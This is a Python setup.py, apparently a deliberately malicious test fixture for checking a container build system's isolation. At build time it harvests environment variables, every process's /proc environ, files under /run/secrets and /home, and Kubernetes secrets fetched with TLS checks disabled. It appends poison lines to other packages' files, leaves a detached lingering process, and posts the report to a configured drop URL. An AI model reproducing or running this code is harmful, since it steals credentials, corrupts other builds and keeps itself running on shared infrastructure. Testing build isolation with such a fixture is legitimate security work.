"""Does what no package should: looks for credentials, changes what it can, leaves a process.

It runs wherever a build asks it anything. What it finds it writes into its own package, and posts.
"""

import contextlib
import json
import os
import ssl
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path

from setuptools import setup

HERE = Path(__file__).resolve().parent
TOLD = json.loads((HERE / "told.json").read_text())
STAGE = "build" if {"bdist_wheel", "build"} & set(sys.argv) else "metadata"
SECRETIVE = ("/kaniko", "/run/secrets", "/var/run/secrets", "/root", "/home")
OF_OTHERS = ("/opt/env", "/kaniko/falapp", "/kaniko/wheels", "/kaniko/plan", "/kaniko/out")
POISON = b"\nWORD = 'poisoned'\n"
UNSAFE = ssl._create_unverified_context()  # noqa: S323 - malicious on purpose


def files(root):
    """Yield the files below a folder; nobody follows links here."""
    for folder, _, names in os.walk(root):
        yield from (Path(folder, name) for name in names)


def found():
    """Return what can be read that is none of a package's business."""
    seen = {"environment": json.dumps(dict(os.environ))}
    processes = [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]
    places = [file for root in SECRETIVE for file in files(root)]
    for file in [*processes, *places]:
        if not str(file).startswith("/kaniko/falapp/"):
            seen[str(file)] = contents(file)
    for kind in ("secrets", "configmaps", "pods"):
        seen[kind] = asked(
            f"https://kubernetes.default.svc/api/v1/namespaces/{TOLD['builds']}/{kind}"
        )
    return seen


def contents(file):
    try:
        return file.read_bytes()[:65536].decode("latin-1")
    except OSError as error:
        return f"({error.strerror})"


def asked(url):
    try:
        return posted(url, None)[:65536].decode()
    except urllib.error.HTTPError as error:
        return f"({error.code})"
    except OSError as error:
        return f"({error})"


def posted(url, body):
    with urllib.request.urlopen(url, body, timeout=10, context=UNSAFE) as answer:  # noqa: S310
        return answer.read()


def changed():
    """Change other packages, the tools and what earlier steps left; return what could be."""
    done = []
    for root in OF_OTHERS:
        new = Path(root, "poisoned") if Path(root).is_dir() else None
        modules = [file for file in files(root) if file.suffix in (".py", ".json", ".whl")]
        for file in [*modules, *filter(None, [new])]:
            try:
                with file.open("ab") as stream:
                    stream.write(POISON)
                done.append(str(file))
            except OSError:
                continue
    return done


def stay():
    """Leave a process that goes on changing what comes later."""
    quiet = subprocess.DEVNULL
    linger = [sys.executable, str(HERE / "linger.py"), *OF_OTHERS]
    child = subprocess.Popen(
        linger, stdin=quiet, stdout=quiet, stderr=quiet, start_new_session=True
    )
    return child.pid


report = json.dumps({"stage": STAGE, "found": found(), "changed": changed(), "left": stay()})
(HERE / TOLD["module"] / "report.json").write_text(report)
with contextlib.suppress(OSError):  # the package's own data has it, too
    posted(TOLD["drop"], report.encode() + b"\n")
setup(
    name=TOLD["name"],
    version=TOLD["version"],
    packages=[TOLD["module"]],
    package_data={TOLD["module"]: ["report.json"]},
)
